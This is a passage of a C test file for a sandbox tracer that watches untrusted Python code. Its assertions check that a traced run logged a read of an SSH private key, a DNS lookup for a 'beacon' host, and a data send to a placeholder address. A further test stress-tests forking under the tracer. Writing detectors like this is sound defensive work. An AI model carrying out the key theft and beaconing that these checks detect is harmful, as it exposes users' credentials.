    assert_string_equal(e->object2, "/home/pyti/.ssh/id_rsa");
    e = find_event(&res, "file.rename", "/tmp/d");
    assert_non_null(e);
    assert_string_equal(e->object2, "/tmp/e");
    e = find_event(&res, "file.chmod", "/tmp/e");
    assert_non_null(e);
    assert_int_equal(e->flags, 0755);
    e = find_event(&res, "net.dns", "beacon.example.org");
    assert_non_null(e);
    assert_string_equal(json_string_value(json_object_get(e->detail, "dns_type")), "A");
    assert_string_equal(json_string_value(json_object_get(e->detail, "result")),
                        "sent; nothing answers (connection refused)");
    e = find_event(&res, "net.send", "198.51.100.1:9");
    assert_non_null(e);
    assert_true(strncmp(json_string_value(json_object_get(e->detail, "result")), "ENETUNREACH",
                        11) == 0);
    assert_int_equal(e->data_len, 7);
    assert_memory_equal(e->data, "payload", 7);
    /* the result's JSON has the decoded form */
    json_t *j = sandbox_result_json(&res);
    assert_true(json_integer_value(json_object_get(j, "traced_calls")) > 10);
    json_t *ev0 = json_array_get(json_object_get(j, "events"), 0);
    assert_non_null(json_object_get(ev0, "kind"));
    assert_non_null(json_object_get(ev0, "text"));
    json_decref(j);
    sandbox_result_free(&res);
}

/* A shell's fork() under the tracer must not fail with EINTR: with a
 * SIGCHLD handler (dash has one) a signal could end a notified clone's
 * wait before the supervisor took it. Processes are not notified; they
 * are counted from the PID namespace. Busy children compete with the
 * supervisor for the CPU, as other jobs do on a loaded worker. */
static void test_traced_forks_not_interrupted(void **state)
{
    (void)state;
    pyti_sandbox_probe probe;
    if (sandbox_probe(&probe, true, NULL) != PYTI_OK)
        skip();
    char *dir = t_tmpdir();
    char *out = xasprintf("%s/out.txt", dir);
    free(t_write(dir, "forks.py",
                 "import os, signal, time\n"
                 "burners = []\n"
                 "for _ in range(4):\n"
                 "    pid = os.fork()\n"
                 "    if pid == 0:\n"
                 "        end = time.monotonic() + 2\n"
                 "        while time.monotonic() < end: pass\n"
                 "        os._exit(0)\n"
                 "    burners.append(pid)\n"
                 "signal.signal(signal.SIGCHLD, lambda *a: None)\n"
                 "eintr = 0\n"
                 "for _ in range(100):\n"
                 "    try:\n"
                 "        for _ in range(2):\n"
                 "            if os.fork() == 0: os._exit(0)\n"
                 "    except InterruptedError:\n"
                 "        eintr += 1\n"
                 "    while True:\n"
                 "        try:\n"
                 "            if os.waitpid(-1, os.WNOHANG)[0] == 0: break\n"
                 "        except ChildProcessError: break\n"
                 "for pid in burners:\n"
                 "    try: os.waitpid(pid, 0)\n"
                 "    except ChildProcessError: pass\n"
                 "print('eintr', eintr)\n"));
    chmod(dir, 0755); /* readable by the sandbox's uid */
    pyti_sandbox_mount m[] = {{SANDBOX_MOUNT_RO_BIND, dir, "/t", 0}};
    char *argv[] = {"/usr/bin/python3", "/t/forks.py", NULL};
    pyti_sandbox_spec s;
    sandbox_spec_init(&s);
    s.argv = argv;
    s.mounts = m;
    s.n_mounts = 1;
    s.stdout_path = out;
    s.trace = true;
    s.limits.timeout_s = 60;
    pyti_sandbox_result res;
    pyti_error err;
    assert_int_equal(sandbox_run(&s, &res, &err), PYTI_OK);
    assert_int_equal(res.exit_code, 0);
    char *text = t_slurp(out);
    assert_string_equal(text, "eintr 0\n");
    free(text);
    /* python, its 4 burners and 200 children (threads would count too) */
    assert_true(res.forks >= 205);
    /* counted by init without a traced call of its own */
    for (size_t i = 0; i < res.n_events; i++)
        assert_false(res.events[i].object &&
                     strstr(res.events[i].object, "ns_last_pid") != NULL);
    sandbox_result_free(&res);
    free(out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_path_join_normal),
        cmocka_unit_test(test_sockaddr),
        cmocka_unit_test(test_dns),
        cmocka_unit_test(test_net_lines),
        cmocka_unit_test(test_open_flags),
        cmocka_unit_test(test_trace_table),
        cmocka_unit_test(test_glob),
        cmocka_unit_test(test_policy_parse_and_match),
        cmocka_unit_test(test_policy_errors),
        cmocka_unit_test(test_shipped_policy),
        cmocka_unit_test(test_honeytokens),
        cmocka_unit_test(test_honeytokens_prepare),
        cmocka_unit_test(test_traced_run),
        cmocka_unit_test(test_traced_forks_not_interrupted),
    };
    return cmocka_run_group_tests_name("trace", tests, NULL, NULL);
}
